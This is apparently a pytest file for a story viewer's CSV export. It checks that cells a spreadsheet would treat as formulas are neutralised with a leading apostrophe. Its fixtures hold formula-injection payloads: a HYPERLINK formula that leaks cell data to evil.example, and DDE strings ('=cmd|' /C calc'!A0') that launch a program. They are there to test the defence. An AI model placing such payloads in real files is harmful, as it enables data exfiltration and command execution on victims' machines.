"""CSV export: one row per event, read back by ``csv.reader`` as written, formulas never run."""

import csv
import io

from tests.conftest import SEEDS, library_of
from tests.model.test_cli import run

HOSTILE = ("Evil\nTimeline\n2020 – =HYPERLINK(\"http://evil.example/?\"&A1, \"click\") [1]\n"
           "Sources\n[1] +Cmd|' /C calc'!A0 — http://a.example\n")


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_round_trips_with_csv_reader_and_neutralises_formulas():
    from viewer.model.csv_export import HEADER, neutralise, write_csv

    library = library_of({
        "a.txt": "Story, with \"quotes\"\nTimeline\n"
                 "Jan 3, 2026 – Text with a comma, a \"quote\" and a semicolon; [1][2]\n"
                 "Mid-2022 – =1+2 looks like a formula [2]\n"
                 "sometime – -5 °C and @mention and +44 [1]\n"
                 "Sources\n[1] Reuters — https://reuters.example/a\n[2] @AP; wire — http://ap.example/b\n",
        "b.txt": "=cmd|' /C calc'!A0\nTimeline\n2019 – Fine [1]\n",
    })
    out = io.StringIO(newline="")
    assert write_csv(library, out) == 4
    rows = rows_of(out.getvalue())
    assert rows[0] == list(HEADER)
    first = dict(zip(HEADER, rows[1], strict=True))
    assert first == {
        "file": "a.txt", "story": 'Story, with "quotes"', "date": "Jan 3, 2026", "start": "2026-01-03",
        "end": "2026-01-03", "precision": "day", "text": first["text"], "citations": "1; 2",
        "source titles": "Reuters\n@AP; wire", "source urls": "https://reuters.example/a\nhttp://ap.example/b",
    }
    assert 'a "quote"' in first["text"]
    formula = dict(zip(HEADER, rows[2], strict=True))
    assert formula["text"] == "'=1+2 looks like a formula"
    assert (formula["start"], formula["end"], formula["precision"]) == ("2022-05-01", "2022-08-31", "year-part")
    undated = dict(zip(HEADER, rows[3], strict=True))
    assert (undated["date"], undated["start"], undated["end"], undated["precision"]) == ("sometime", "", "", "")
    assert undated["text"].startswith("'-5 °C")
    other = dict(zip(HEADER, rows[4], strict=True))
    assert other["story"] == "'=cmd|' /C calc'!A0"
    assert neutralise("\tTabbed") == "'\tTabbed" and neutralise("\r=1") == "'\r=1"
    # No cell of the file starts with a character a spreadsheet would run.
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_export_csv_of_the_seeds_runs_without_qt_and_has_every_event():
    from viewer.model import load_folder

    result = run("--export-csv", str(SEEDS), block_qt=True)
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("file,story,date,start,end,precision,text,citations,")
    rows = rows_of(result.stdout)
    library = load_folder(SEEDS)
    assert len(rows) == 1 + library.event_count
    texts = {(row[0], row[6]) for row in rows[1:]}
    for story in library.stories:
        for event in story.events:
            assert (story.file, event.text) in texts or (story.file, "'" + event.text) in texts


def test_export_csv_of_a_hostile_story(story_folder):
    folder = story_folder({"evil.txt": HOSTILE})
    result = run("--export-csv", str(folder), block_qt=True)
    assert result.returncode == 0, result.stderr
    [_header, row] = rows_of(result.stdout)
    assert row[6].startswith("'=HYPERLINK(")
    assert row[8] == "'+Cmd|' /C calc'!A0"
